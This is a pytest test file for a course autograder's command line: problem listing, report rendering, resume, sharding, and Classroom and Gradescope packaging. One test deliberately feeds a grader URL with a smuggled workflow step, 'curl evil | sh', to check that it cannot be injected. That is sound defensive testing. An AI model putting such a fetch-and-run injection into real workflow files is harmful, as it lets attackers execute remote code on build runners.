"""The `grader` command through click's runner, and the library functions behind it."""

from __future__ import annotations

import json
import shlex
import shutil
import stat
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import click
import pytest
import yaml
from click.testing import CliRunner

from grader import __version__
from grader.api import MERGED_SIMILARITY
from grader.cli.main import cli
from grader.courses import course
from grader.courses.catalog import Catalog
from grader.courses.course import OpenCourse
from grader.platforms.classroom.workflow import workflow
from grader.platforms.gradescope.autograder import build_autograder
from grader.reports.models import ProblemStatus, SubmissionReport, read_report, write_report
from grader.resume import saved_report
from grader.sandboxing.staging import content_hash, stage_submission
from grader.secret import ENV_SECRET
from grader.shards import SHARD_FILE, Shard
from grader.specs.course import Course, load_course
from grader.specs.paths import builtin_problems, builtin_references
from grader.specs.problem import Visibility
from tests.fakes import FakeBackend
from tests.reports import sample_reports
from tests.workflows import actionlint

ROOT = Path(__file__).resolve().parent.parent
ENTRIES = {"split_heads.py", "mha_by_loop.py"}


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    return result.exit_code, result.output


@pytest.fixture
def fake_backend(monkeypatch: pytest.MonkeyPatch) -> FakeBackend:
    """Batches graded by a backend that runs nothing: for the logic around grading."""
    fake = FakeBackend()
    monkeypatch.setattr("grader.batch.make_backend", lambda *args, **kwargs: fake)
    return fake


def test_problems_lists_points(catalog: Catalog) -> None:
    code, out = run("problems")
    assert code == 0
    rows = {
        line.split()[1]: line.split() for line in out.splitlines() if line[:3].strip().isdigit()
    }
    for problem in catalog.problems.values():
        assert rows[problem.spec.id][:3] == [
            str(problem.spec.number),
            problem.spec.id,
            f"{problem.spec.max_score:g}",
        ]


def test_show_has_statement_contract_and_starter(catalog: Catalog) -> None:
    problem = catalog.problems["split_heads"]
    code, out = run("show", "split_heads")
    assert code == 0
    assert problem.statement.splitlines()[0] in out
    assert "## Contract" in out and problem.starter.strip() in out
    for check in problem.spec.checks:
        assert (check.name in out) == (check.visibility is Visibility.visible)
    assert run("show", "no_such_problem")[0] != 0


def test_a_problem_is_named_by_id_or_number(catalog: Catalog) -> None:
    """As `grader problems` lists them: `show 9` is `show causal_self_attention`."""
    number = str(catalog.problems["causal_self_attention"].spec.number)
    assert run("show", number) == run("show", "causal_self_attention")
    code, out = run("show", "99")
    assert code == 2 and "unknown problem 99" in out and "or their numbers" in out


def test_init_writes_starter_once(tmp_path: Path, catalog: Catalog) -> None:
    code, _ = run("init", "split_heads", str(tmp_path / "work"))
    assert code == 0
    written = tmp_path / "work" / "split_heads.py"
    assert written.read_text() == catalog.problems["split_heads"].starter
    written.write_text("# mine")
    code, out = run("init", "split_heads", str(tmp_path / "work"))
    assert code != 0 and "not overwritten" in out
    assert written.read_text() == "# mine"
    code, out = run("init", "self_attention", str(tmp_path / "work"), "--course", str(ROOT))
    assert code == 0 and f"`grader check {tmp_path / 'work'} --course {ROOT}`" in out, out


def test_report_rerenders_saved_json(tmp_path: Path) -> None:
    for report in sample_reports():
        write_report(report, tmp_path)
    code, _ = run(
        "report",
        str(tmp_path),
        "--format",
        "html",
        "--format",
        "junit",
        "--format",
        "markdown",
        "--out",
        str(tmp_path / "out"),
    )
    assert code == 0
    for name in ("summary.csv", "report.html", "junit.xml", "summary.md", "feedback/mistakes.md"):
        assert (tmp_path / "out" / name).is_file(), name
    assert run("report", str(tmp_path / "out" / "feedback"))[0] != 0  # no reports there


def test_report_for_classroom_prints_the_result(tmp_path: Path) -> None:
    write_report(sample_reports()[0], tmp_path)
    code, out = run("report", str(tmp_path), "--format", "github-classroom")
    assert code == 0 and "result=" in out


def test_restricted_problem_keeps_only_shown_checks(catalog: Catalog) -> None:
    problem = catalog.problems["split_heads"]
    visible = problem.restricted({Visibility.visible})
    assert {c.visibility for c in visible.spec.checks} == {Visibility.visible}
    assert visible.spec.max_score == sum(
        c.points for c in problem.spec.checks if c.visibility is Visibility.visible
    )
    assert problem.spec.max_score > visible.spec.max_score  # the original is untouched


def test_content_hash_matches_staging(tmp_path: Path) -> None:
    source = ROOT / "submissions" / "complete"
    assert content_hash(source) == stage_submission(source, tmp_path / "s").content_hash


def saved_by_now(report: SubmissionReport, submission: Path) -> SubmissionReport:
    """`report` as this grader version would have saved it for `submission` as it is now."""
    run = report.run.model_copy(update={"grader_version": __version__})
    return report.model_copy(update={"content_hash": content_hash(submission), "run": run})


def test_resume_reuses_only_valid_reports(tmp_path: Path) -> None:
    submission = tmp_path / "subs" / "full"
    submission.mkdir(parents=True)
    (submission / "split_heads.py").write_text("x = 1\n")
    report = saved_by_now(sample_reports()[0], submission)
    out = tmp_path / "reports"
    write_report(report, out)
    ids = [p.problem for p in report.problems]
    assert saved_report(submission, out, ids, ENTRIES) == read_report(out / "full.json")
    assert saved_report(submission, out, ids[:1], ENTRIES) is None  # other problems asked for
    (submission / "split_heads.py").write_text("x = 2\n")
    assert saved_report(submission, out, ids, ENTRIES) is None  # the content changed
    assert saved_report(tmp_path / "subs", out, ids, ENTRIES) is None  # nothing saved
    nested = tmp_path / "subs" / "nested"
    (nested / "hw").mkdir(parents=True)
    (nested / "hw" / "split_heads.py").write_text("x = 1\n")
    moved = saved_by_now(report, nested / "hw").model_copy(update={"submission": "nested"})
    write_report(moved, out)
    assert saved_report(nested, out, ids, ENTRIES) is not None  # the folder graded is hashed


def test_resume_grades_the_rest_with_the_batch_seed(
    tmp_path: Path, fake_backend: FakeBackend
) -> None:
    """One class report holds one seed: the saved report's, also for what is graded now."""
    out = tmp_path / "reports"
    saved, fresh = tmp_path / "subs" / "full", tmp_path / "subs" / "late"
    for folder in (saved, fresh):
        folder.mkdir(parents=True)
        shutil.copyfile(builtin_references() / "split_heads.py", folder / "split_heads.py")
    report = saved_by_now(sample_reports()[0], saved)
    write_report(report, out)
    problems = [arg for p in report.problems for arg in ("--problem", p.problem)]
    args = ["grade", str(tmp_path / "subs"), "--out", str(out), "--resume", "--backend", "local"]
    code, text = run(*args, "--seed", "8", *problems)
    assert code == 2 and "seed(s) [7]" in text
    code, text = run(*args, "--problem", report.problems[0].problem)
    assert code == 2 and "resume with the same --problem options" in text, text
    assert read_report(out / "full.json") == report  # kept, not replaced by a partial one
    code, text = run(*args, *problems)
    assert code == 0, text
    assert "seed 7" in text and read_report(out / "late.json").run.seed == 7
    shutil.rmtree(saved)  # gone from the class: its report is stale, and said to be
    code, text = run(*args, *problems)
    assert code == 0 and "also holds 1 report(s) of submissions not in this batch (full)" in text


def test_grade_prints_the_table_by_problem_number(
    tmp_path: Path, catalog: Catalog, monkeypatch: pytest.MonkeyPatch
) -> None:
    """... and reads the course file once, for its problems and its due date alike."""
    read: list[Path] = []

    def counted(path: Path) -> Course:
        read.append(path)
        return load_course(path)

    monkeypatch.setattr(course, "load_course", counted)
    out = tmp_path / "reports"
    full, mistakes = sample_reports()[:2]  # the third has a grader error: it would be regraded
    forbidden = ProblemStatus.forbidden_api
    twice = mistakes.model_copy(
        update={
            "submission": "twice",
            "problems": [
                p if p.problem == "split_heads" else p.model_copy(update={"status": forbidden})
                for p in mistakes.problems
            ],
        }
    )
    for report in (full, mistakes, twice):
        submission = tmp_path / "subs" / report.submission
        submission.mkdir(parents=True)
        (submission / "split_heads.py").write_text("x = 1\n")
        write_report(saved_by_now(report, submission), out)
    problems = [p.problem for p in sample_reports()[0].problems]
    options = ["--problem", ",".join(problems[:2]), "--problem", problems[2]]
    code, text = run("grade", str(tmp_path / "subs"), "--out", str(out), "--resume", *options)
    assert code == 0, text
    for problem in problems:
        assert f"{catalog.problems[problem].spec.number} {problem}" in text
    assert "mistakes  problem 9: forbidden API used; problem 11: import error" in text
    assert "twice     problems 9, 11: forbidden API used" in text
    assert len(read) == 1


def test_classroom_init(tmp_path: Path) -> None:
    url = "https://example.org/course/attention-grader.git"
    code, _ = run("classroom", "init", str(tmp_path), "--grader-url", url, "--ref", "v1")
    assert code == 0
    text = (tmp_path / ".github" / "workflows" / "classroom.yml").read_text()
    assert text == workflow(url, "v1")
    job = yaml.safe_load(text)["jobs"]["run-autograding-tests"]
    assert job["env"] == {"GRADER_URL": url, "GRADER_REF": "v1"}
    assert '"torch==2.13.0"' in text and "actions/cache@v4" in text
    assert job["steps"][-1]["if"] == "always()"  # a grader fault still posts a score
    assert "autograding-grading-reporter" in text and "GRADER_RESULTS" in text
    assert "${{ steps.grader.outputs.result }}" in text and "runners: grader" in text
    assert "--course .grader/kit" in text and "grader grade student-repos --course" in text
    assert (tmp_path / ".grader" / "kit" / "kit.json").is_file()
    assert not list((tmp_path / ".grader").rglob("reference*.py"))
    assert run("classroom", "init", str(tmp_path), "--grader-url", url)[0] != 0
    assert "feedback" in run("classroom", "--help")[1]


def test_workflow_url_is_data_never_script(tmp_path: Path) -> None:
    """A newline in --grader-url stays inside the URL: no step or command is injected."""
    url = "https://example.org/g.git\n      - run: curl evil | sh"
    job = yaml.safe_load(workflow(url))["jobs"]["run-autograding-tests"]
    assert job["env"]["GRADER_URL"] == url
    assert all("evil" not in str(step) for step in job["steps"])


def test_workflow_passes_actionlint(tmp_path: Path) -> None:
    path = tmp_path / "classroom.yml"
    path.write_text(workflow("https://example.org/course/grader.git", "v1"))
    assert actionlint(path) == []


def test_gradescope_zip(tmp_path: Path) -> None:
    out = build_autograder(tmp_path / "autograder.zip")
    with zipfile.ZipFile(out) as archive:
        names = set(archive.namelist())
        modes = {i.filename: i.external_attr >> 16 for i in archive.infolist()}
        run_script = archive.read("run_autograder").decode()
    assert {
        "setup.sh",
        "run_autograder",
        "grader/pyproject.toml",
        "grader/sandbox/worker.py",
        "grader/grader/cli/main.py",
        "grader/course.toml",
        "grader/problems/split_heads/spec.toml",
        "grader/reference_solutions/split_heads.py",
    } <= names
    assert not any("__pycache__" in n for n in names)
    assert modes["run_autograder"] & stat.S_IXUSR and modes["setup.sh"] & stat.S_IXUSR
    assert "--user grader-student" in run_script
    assert build_autograder(tmp_path / "again.zip").read_bytes() == out.read_bytes()


@pytest.mark.timeout(300)
def test_check_grades_visible_checks_only(catalog: Catalog) -> None:
    code, out = run(
        "check",
        str(ROOT / "submissions" / "complete"),
        "--problem",
        "split_heads,1",  # by id and by number, comma-separated
        "--seed",
        "3",
    )
    assert code == 0, out
    assert "\nself_attention  " in out and "\nsplit_heads  " in out and "\nmha_wrapper" not in out
    problem = catalog.problems["split_heads"]
    visible = [c for c in problem.spec.checks if c.visibility is Visibility.visible]
    hidden = [c for c in problem.spec.checks if c.visibility is not Visibility.visible]
    assert f"{sum(c.points for c in visible):g}/{sum(c.points for c in visible):g}" in out
    for check in hidden:
        assert check.name not in out
    assert f"{len(hidden)} hidden check(s) worth {sum(c.points for c in hidden):g}" in out
    assert json.dumps(out)  # plain text, no terminal codes needed


def test_check_takes_one_problem_s_file(tmp_path: Path) -> None:
    """`grader check split_heads.py` checks that problem, with the folder's other files there
    to import; any other file is told to check the folder."""
    mine = Path(shutil.copytree(ROOT / "submissions" / "complete", tmp_path / "mine"))
    code, out = run("check", str(mine / "causal_self_attention.py"))
    assert code == 0 and "causal_self_attention  " in out and "split_heads  " not in out, out
    (mine / "notes.txt").write_text("to do")
    code, out = run("check", str(mine / "notes.txt"))
    assert code == 2 and f"notes.txt is no problem's file: `grader check {mine}`" in out, out


def test_grade_refuses_without_an_engine(tmp_path: Path) -> None:
    """No silent fall back to unsandboxed code: the message says how to start Docker and how to
    opt into the local backend knowingly; nothing is graded."""
    env = {"DOCKER_HOST": f"unix://{tmp_path}/no-engine.sock"}
    result = CliRunner().invoke(
        cli, ["grade", str(ROOT / "submissions"), "--out", str(tmp_path / "out")], env=env
    )
    assert result.exit_code == 2, result.output
    assert "docker sandbox cannot run" in result.output
    assert "DOCKER_HOST" in result.output and "--backend local" in result.output
    assert not (tmp_path / "out").exists()


def test_errors_speak_the_users_language(tmp_path: Path) -> None:
    """A bad course file names the file, the field and what is allowed (no library URL); an
    empty folder says what was expected; lists take commas; no folder is made by mistake."""
    course = tmp_path / "course.toml"
    course.write_text('due = 2026-12-01T23:59:00\nteacher = "x"\n')
    write_report(sample_reports()[0], tmp_path / "reports")
    code, text = run("report", str(tmp_path / "reports"), "--course", str(course))
    assert code == 2 and f"{course}: due: give the due date a time zone" in text
    assert "teacher: not a course field" in text and "http" not in text
    code, text = run("check", str(tmp_path))
    assert code == 2 and "no problem file in" in text and "split_heads.py" in text
    code, text = run("report", str(tmp_path / "reports"), "--format", "csv,bogus")
    assert code == 2 and "bogus (choose from csv" in text
    code, text = run("classroom", "init", str(tmp_path / "no" / "repo"), "--grader-url", "u")
    assert code == 2 and "is not a folder" in text and not (tmp_path / "no").exists()


def test_formats_take_commas(tmp_path: Path) -> None:
    for report in sample_reports():
        write_report(report, tmp_path)
    code, text = run("report", str(tmp_path), "--format", "markdown,junit", "--format", "html")
    assert code == 0, text
    assert all((tmp_path / name).is_file() for name in ("summary.md", "junit.xml", "report.html"))


@pytest.mark.parametrize(
    "args",
    [
        ["--help"],
        ["schema"],
        ["sandbox", "--help"],
        ["report"],
        ["problems"],
        ["show", "split_heads"],
        ["init", "split_heads"],
    ],
)
def test_commands_that_run_no_tensors_start_without_torch(args: list[str], tmp_path: Path) -> None:
    """Importing torch takes about a second: commands that run no tensors never import it."""
    if args == ["report"]:
        write_report(sample_reports()[0], tmp_path)
        args = ["report", str(tmp_path)]
    if args[0] == "init":
        args = [*args, str(tmp_path / "work")]
    code = (
        "import sys\nfrom grader.cli.main import cli\n"
        f"try:\n    cli({args!r})\nexcept SystemExit as exit:\n    assert not exit.code, exit\n"
        "print('torch imported:', 'torch' in sys.modules)"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True
    )
    assert out.stdout.strip().endswith("torch imported: False"), out.stdout[-300:]


def test_the_command_freezes_what_it_imported_before_exiting(tmp_path: Path) -> None:
    """`grader` (the installed script's entry) freezes its objects on the way out, so that the
    interpreter's exit skips collecting torch; its exit status is the command's own."""
    code = (
        "import atexit, gc\n"
        "atexit.register(lambda: print('frozen:', gc.get_freeze_count() > 0))\n"
        "from grader.cli.main import main\nmain()"
    )
    for args, status in ((["problems"], 0), (["show", "no_such_problem"], 2)):
        out = subprocess.run(
            [sys.executable, "-c", code, *args], capture_output=True, text=True, cwd=tmp_path
        )
        assert out.returncode == status, out.stderr
        assert out.stdout.strip().endswith("frozen: True"), out.stdout[-300:]


def test_a_broken_reference_is_a_grader_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The grader's own fault (a reference that fails its probes) exits 2 with a one-line
    error, no traceback, and no report scores the candidate."""
    problems = tmp_path / "problems"
    shutil.copytree(builtin_problems() / "split_heads", problems / "split_heads")
    reference = tmp_path / "reference_solutions" / "split_heads.py"
    reference.parent.mkdir()
    broken = builtin_references().joinpath("split_heads.py").read_text()
    reference.write_text(broken + "\n\ndef split_heads(x, num_heads):\n    1 / 0\n")
    found = OpenCourse(tmp_path, Course(), Catalog(problems))
    monkeypatch.setattr("grader.api.course", lambda path, **_: found)
    submission = tmp_path / "work"
    submission.mkdir()
    shutil.copyfile(builtin_references() / "split_heads.py", submission / "split_heads.py")
    out = tmp_path / "reports"
    result = CliRunner().invoke(
        cli, ["grade", str(submission), "--backend", "local", "--out", str(out)]
    )
    assert result.exit_code == 2, result.output
    errors = [line for line in result.output.splitlines() if line.startswith("Error:")]
    assert errors == [
        "Error: split_heads: the reference failed probe p0: ZeroDivisionError: division by zero"
    ], result.output
    assert "Traceback" not in result.output and not list(out.glob("*.json"))


def test_an_interrupted_batch_keeps_its_reports_and_says_how_to_resume(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_backend: FakeBackend
) -> None:
    """Ctrl-C as the second report comes: the first is kept, the rest are not, and the printed
    command grades exactly the rest with the batch's seed."""
    batch = tmp_path / "class"
    for name in ("ada", "bob", "cy"):
        target = batch / name
        target.mkdir(parents=True)
        shutil.copyfile(builtin_references() / "split_heads.py", target / "split_heads.py")
    out = tmp_path / "reports"
    args = ["grade", str(batch), "--out", str(out), "--backend", "local", "--jobs", "1"]

    def stop_at_the_second(report: SubmissionReport, folder: Path) -> Path:
        if list(folder.glob("*.json")):
            raise KeyboardInterrupt
        return write_report(report, folder)

    with monkeypatch.context() as patch:
        patch.setattr("grader.batch.write_report", stop_at_the_second)
        code, text = run(*args)
    assert code == 130, text
    assert "stopped: 1 report(s) kept in" in text and "2 submission(s) not graded" in text
    assert "Aborted" not in text and "Traceback" not in text
    again = text.split("Grade the rest with: ", 1)[1].split("\n")[0].replace("\n", "")
    assert again.endswith("--resume")
    kept = {p.name: p.read_text() for p in out.glob("*.json")}
    (first,) = kept  # whichever was done first: the batch judges one while the next runs
    assert first in {"ada.json", "bob.json", "cy.json"}
    code, text = run(*shlex.split(again)[1:])
    assert code == 0, text
    assert "Resuming: 1 submission(s) already graded" in text
    assert sorted(p.name for p in out.glob("*.json")) == ["ada.json", "bob.json", "cy.json"]
    assert (out / first).read_text() == kept[first]
    seeds = {read_report(p).run.seed for p in out.glob("*.json")}
    assert len(seeds) == 1


def test_three_shards_merge_into_the_gradebook_of_one_run(
    tmp_path: Path, fake_backend: FakeBackend, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`--shard K/N` slices a batch the same way on every machine; `report` merges the slices'
    folders into the gradebook one unsharded run with the same seed and secret writes."""
    monkeypatch.setenv(ENV_SECRET, "the secret every shard shares")
    batch = tmp_path / "class"
    for example in sorted((ROOT / "submissions").iterdir()):
        for copy in range(3):
            shutil.copytree(example, batch / f"{example.name}_{copy}")
    common = ["--backend", "local", "--seed", "11", "--jobs", "2", "--problem", "split_heads"]
    code, text = run("grade", str(batch), "--out", str(tmp_path / "whole"), *common)
    assert code == 0, text
    shards = [tmp_path / f"shard{k}" for k in (1, 2, 3)]
    for k, out in enumerate(shards, 1):
        code, text = run("grade", str(batch), "--out", str(out), "--shard", f"{k}/3", *common)
        assert code == 0, text
        assert f"Shard {k}/3:" in text
    graded = [sorted(p.stem for p in out.glob("*.json") if p.name != SHARD_FILE) for out in shards]
    every = [name for names in graded for name in names]
    assert sorted(every) == sorted(p.name for p in batch.iterdir())  # a partition
    assert sum(bool(names) for names in graded) >= 2
    merged = tmp_path / "merged"
    code, text = run("report", *map(str, shards), "--out", str(merged), "--format", "csv")
    assert code == 0, text
    assert MERGED_SIMILARITY in text  # each shard compared its own submissions only
    assert (merged / "summary.csv").read_text() == (tmp_path / "whole" / "summary.csv").read_text()
    assert len(list(merged.glob("*.json"))) == 9

    # every shard, each with all its reports, or no merge
    code, text = run("report", str(shards[0]), str(shards[1]), "--out", str(tmp_path / "m2"))
    assert code == 2 and "shard(s) 3/3 missing" in text, text
    code, text = run("report", str(shards[1]), "--out", str(tmp_path / "m1"))
    assert code == 2 and "shard(s) 1/3, 3/3 missing" in text, text
    code, text = run("report", *map(str, shards), "--out", str(shards[0]))
    assert code == 2 and "is one of the shards" in text, text
    # a slice of a batch cut in 4 that shares a submission with the first of 3
    slice_of_4 = next(k for k in (1, 2, 3, 4) if Shard(k, 4).holds(graded[0][0]))
    cut_in_4 = tmp_path / "cut_in_4"
    args = ["grade", str(batch), "--out", str(cut_in_4), "--shard", f"{slice_of_4}/4"]
    code, text = run(*args, *common)
    assert code == 0, text
    code, text = run("report", str(shards[0]), str(shards[1]), str(cut_in_4), "--out", str(merged))
    assert code == 2 and "shards of batches cut in 3 and 4 slices" in text, text
    code, text = run("report", *map(str, shards), str(shards[0]), "--out", str(tmp_path / "m3"))
    assert code == 2 and " is in two shards: " in text, text
    k, fullest = max(enumerate(shards, 1), key=lambda pair: len(graded[pair[0] - 1]))
    (fullest / f"{graded[k - 1][0]}.json").unlink()  # its grading stopped before the last one
    code, text = run("report", *map(str, shards), "--out", str(tmp_path / "m4"))
    assert code == 2 and "reports: grade it again with --resume" in text, text
    args = ["grade", str(batch), "--out", str(fullest), "--shard", f"{k}/3", "--resume"]
    code, text = run(*args, *common)
    assert code == 0 and "Resuming: " in text, text
    code, text = run("report", *map(str, shards), "--out", str(tmp_path / "m5"), "--format", "html")
    assert code == 0 and MERGED_SIMILARITY in text, text
    assert 'id="similarity"' not in (tmp_path / "m5" / "report.html").read_text()
    assert (tmp_path / "m5" / "summary.csv").read_text() == (merged / "summary.csv").read_text()
    code, text = run("report", str(tmp_path / "whole"), "--format", "csv")
    assert code == 0 and MERGED_SIMILARITY not in text, text  # one batch's folder, not a merge
    ghost = tmp_path / "m5" / "ghost.json"
    ghost.write_text((tmp_path / "m5" / f"{graded[0][0]}.json").read_text())
    code, text = run("report", *map(str, shards), "--out", str(tmp_path / "m5"))
    assert code == 0 and "also holds 1 report(s) of submissions not in these shards" in text

    other = tmp_path / "other_seed"
    args = ["grade", str(batch), "--out", str(other), "--shard", "1/3", *common[:2]]
    code, text = run(*args, "--seed", "12", "--problem", "split_heads")
    assert code == 0, text
    code, text = run("report", str(other), str(shards[1]), str(shards[2]), "--out", str(merged))
    assert code == 2 and "different seeds" in text
    code, text = run(
        "grade", str(batch), "--out", str(other), "--shard", "1/3", "--backend", "local"
    )
    assert code == 2 and "--shard needs --seed" in text
    code, text = run("grade", str(batch), "--shard", "4/3", "--backend", "local")
    assert code == 2 and "1 <= K <= N" in text
    code, text = run("grade", str(batch), "--backend", "local", "--isolation", "container")
    assert code == 2 and "--isolation is for --backend docker" in text
    assert fake_backend.runs >= 9 + 9  # the whole batch, then its three slices


def commands(group: click.Group, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """Every command's words (`("gradescope", "run")`), groups included."""
    for name, command in group.commands.items():
        yield (*path, name)
        if isinstance(command, click.Group):
            yield from commands(command, (*path, name))


def parsed_example(line: str) -> click.Command:
    """The command `line` runs, its words parsed as the command parses them (every value
    converted and checked, but a path's, which names files of the example's machine)."""
    words = shlex.split(line.split(" > ")[0])
    assert words[0] == "grader", line
    command: click.Command = cli
    ctx = click.Context(cli, info_name="grader")
    words = words[1:]
    while isinstance(command, click.Group):
        found = command.get_command(ctx, words[0])
        assert found is not None, line
        command, ctx = found, click.Context(found, info_name=words[0], parent=ctx)
        words = words[1:]
    values, rest, _ = command.make_parser(ctx).parse_args(words)
    assert not rest, line
    for param in command.params:
        if not isinstance(param.type, click.Path):
            param.process_value(ctx, param.consume_value(ctx, values)[0])
    return command


def test_help_lists_each_command_whole_with_an_example_that_parses() -> None:
    """`grader --help` and a group's list each command's whole summary, never cut (`...`), at
    the default width of 80; each command's help ends with an example that parses."""
    code, text = run("--help")
    assert code == 0 and "_GRADER_COMPLETE=bash_source grader" in text
    for words in ((), *commands(cli)):
        code, text = run(*words, "--help")
        assert code == 0, words
        command: click.Command = cli
        for word in words:
            assert isinstance(command, click.Group)
            command = command.commands[word]
        if isinstance(command, click.Group):
            listing = " ".join(text.split("Commands:")[1].split("Example:")[0].split())
            assert "..." not in listing, words
            for sub in command.commands.values():
                assert " ".join((sub.help or "").split("\n\n")[0].split()) in listing, words
        if words:
            example = parsed_example(text.split("Example:\n")[1].strip())
            assert isinstance(command, click.Group) or example is command, words
